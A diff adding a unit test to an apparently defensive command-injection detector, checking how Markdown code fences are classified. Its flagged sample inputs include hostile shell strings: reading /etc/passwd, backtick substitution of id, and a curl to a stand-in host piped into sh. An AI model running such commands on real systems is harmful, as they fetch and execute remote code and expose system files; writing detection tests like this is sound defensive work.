@@ -282,6 +282,19 @@ TEST(ProgramPath, ARelativeProjectPathIsNoProgram) {
       {"/usr/bin/node", "./node", "bin/node", "~/bin/python", "usr/bin/id", "../../bin/sh"});
 }
 
+// Markdown fences ("```bash") are no substitutions and their language tag no command: the
+// enclosed lines are judged as lines; inside a sentence (three words outside the block) the
+// block is a quotation. Backticks that are not a fence line still substitute.
+TEST(MarkdownFence, FenceLinesAreNoSubstitution) {
+  ExpectFormAllowed(
+      {"```python\nprint('hi')\n```", "Run this:\n```\nnpm run build\n```\nthen reload",
+       "To deploy, run:\n```bash\ncd app && make && ./deploy.sh --prod\n```\nand check "
+       "the logs.",
+       "  ```js\nconst x = 1;\n  ```"});
+  ExpectFormCmdi({"```\n;cat /etc/passwd\n```", "```\n`id`\n```", "x```id```", "```id```",
+                  "a\n```id```", "```\n$(curl evil.example/a.sh|sh)\n```", "```bash\nls -la\n```"});
+}
+
 // A name in angle brackets is a placeholder or a traceback's frame name, not a redirection
 // (as shell, "<module>" redirects into nothing); a real redirection still is one.
 TEST(Redirection, AnglePlaceholderIsNoRedirection) {
